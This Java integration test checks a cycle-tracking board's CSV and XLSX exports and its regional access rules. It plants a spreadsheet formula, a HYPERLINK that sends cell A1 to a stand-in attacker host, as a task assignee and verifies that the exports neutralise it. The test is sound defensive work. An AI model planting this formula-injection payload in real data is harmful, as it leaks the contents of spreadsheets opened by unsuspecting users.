package org.hldprep;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.camunda.bpm.engine.RuntimeService;
import org.hldprep.board.ProgressExports;
import org.hldprep.support.Http;
import org.hldprep.support.PostgresIntegrationTest;
import org.hldprep.support.QuickCycle;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * The board's downloads and its calendar, attacked on PostgreSQL with a cycle of the Philippines only
 * (Bangkok's region): a formula planted as an assignee reaches the spreadsheets as text, and the
 * Regional Office in Nairobi, whose region the cycle does not include, reads none of it.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ExportsAndCalendarIT extends PostgresIntegrationTest {

  private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

  @LocalServerPort
  int port;
  @Autowired
  RuntimeService runtimeService;

  private QuickCycle cycle;
  private String masterId;
  private String base;

  @BeforeAll
  void cycleOfThePhilippines() {
    cycle = QuickCycle.unique("HLDINERT", "PHL");
    masterId = cycle.start(port);
    base = "/api/cycles/" + cycle.name();
  }

  @AfterAll
  void deleteCycle() {
    if (masterId != null) {
      runtimeService.deleteProcessInstanceIfExists(masterId, "ExportsAndCalendarIT finished", true, true, true, false);
    }
  }

  @Test
  void aFormulaPlantedAsAnAssigneeReachesEveryExportAsText() throws IOException {
    String offer = QuickCycle.awaitTask(port, "phl-officer", cycle.name() + "-PHL", "Task_OfferConsultation");
    // The attack: a formula where a spreadsheet expects a name (Tasklist's assign control takes any text).
    Http.Response planted = Http.as(port, "admin").post("/engine-rest/task/" + offer + "/assignee",
        Map.of("userId", FORMULA));
    assertThat(planted.status()).as(planted.body()).isEqualTo(204);

    for (String reader : List.of("hld-coordinator", "bangkok-ro")) {
      CSVRecord country = parse(Http.as(port, reader).get(base + "/countries.csv")).stream()
          .filter(r -> r.get("ISO3").equals("PHL")).findFirst().orElseThrow();
      assertThat(country.get("Held by")).as(reader).isEqualTo("'" + FORMULA + " co-phl");
      assertThat(country.get("Country")).as("ordinary text as it is").isEqualTo("Philippines");
      CSVRecord step = parse(Http.as(port, reader).get(base + "/countries/PHL/timeline.csv")).stream()
          .filter(r -> r.get("Code").equals("PHL") && !r.get("By").isEmpty()).findFirst().orElseThrow();
      assertThat(step.get("By")).as(reader).isEqualTo("'" + FORMULA);
      assertThat(parse(Http.as(port, reader).get(base + "/tracks/PHL/timeline.csv")).stream()
          .map(r -> r.get("By"))).as(reader).contains("'" + FORMULA);
    }

    // The workbook holds it as a string cell, never a formula.
    try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(bytes("hld-coordinator",
        base + "/countries.xlsx")))) {
      XSSFSheet sheet = book.getSheetAt(0);
      int heldBy = ProgressExports.COUNTRY_COLUMNS.indexOf("Held by");
      List<Cell> cells = new ArrayList<>();
      for (Row row : sheet) {
        cells.add(row.getCell(heldBy));
      }
      Cell heldByCell = cells.stream().filter(c -> c.getStringCellValue().startsWith("=")).findFirst().orElseThrow();
      assertThat(heldByCell.getCellType()).isEqualTo(CellType.STRING);
      assertThat(heldByCell.getStringCellValue()).isEqualTo(FORMULA + " co-phl");
    }

    // The data itself is unchanged: the board and the engine still hold the assignee as written.
    JsonNode row = Http.as(port, "hld-coordinator").get(base + "/progress").json().get("regions").get(0)
        .get("rows").get(0);
    assertThat(row.get("heldBy").get(0).asText()).isEqualTo(FORMULA);
    assertThat(Http.as(port, "admin").get("/engine-rest/task/" + offer).json().get("assignee").asText())
        .isEqualTo(FORMULA);
  }

  @Test
  void aRegionalOfficeReadsNoCalendarOfACycleWithoutItsRegion() {
    Http nairobi = Http.as(port, "nairobi-ro");
    for (String path : List.of(base + "/progress", base + "/countries.csv", base + "/countries.xlsx",
        base + "/progress?regionalOffice=ro-nairobi")) {
      Http.Response refused = nairobi.get(path);
      assertThat(refused.status()).as(path + ": " + refused.body()).isEqualTo(403);
      assertThat(refused.json().get("detail").asText()).as(path)
          .isEqualTo("Cycle " + cycle.name() + " includes no country of ro-nairobi; you may read the cycles of"
              + " your region only");
      assertThat(refused.body()).as(path).doesNotContain(QuickCycle.futureCalendar().get("hldDate"));
    }
    Http.Response list = nairobi.get("/api/cycles");
    assertThat(list.status()).isEqualTo(200);
    assertThat(list.body()).as("as the board's list of cycles has it").doesNotContain(cycle.name());

    // Bangkok, whose country takes part, reads the calendar as before.
    JsonNode bangkok = Http.as(port, "bangkok-ro").get(base + "/progress").json();
    assertThat(bangkok.get("countdown").get("hldDate").asText()).isEqualTo(QuickCycle.futureCalendar().get("hldDate"));
  }

  private static List<CSVRecord> parse(Http.Response csv) throws IOException {
    assertThat(csv.status()).as(csv.body()).isEqualTo(200);
    try (CSVParser parser = CSVParser.parse(new StringReader(csv.body()),
        CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
      return parser.getRecords();
    }
  }

  private byte[] bytes(String user, String path) {
    try {
      HttpResponse<byte[]> response = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
          URI.create("http://localhost:" + port + path))
          .header("Authorization", "Basic " + Base64.getEncoder().encodeToString((user + ":demo")
              .getBytes(StandardCharsets.UTF_8)))
          .build(), HttpResponse.BodyHandlers.ofByteArray());
      assertThat(response.statusCode()).isEqualTo(200);
      return response.body();
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new IllegalStateException(e);
    }
  }
}
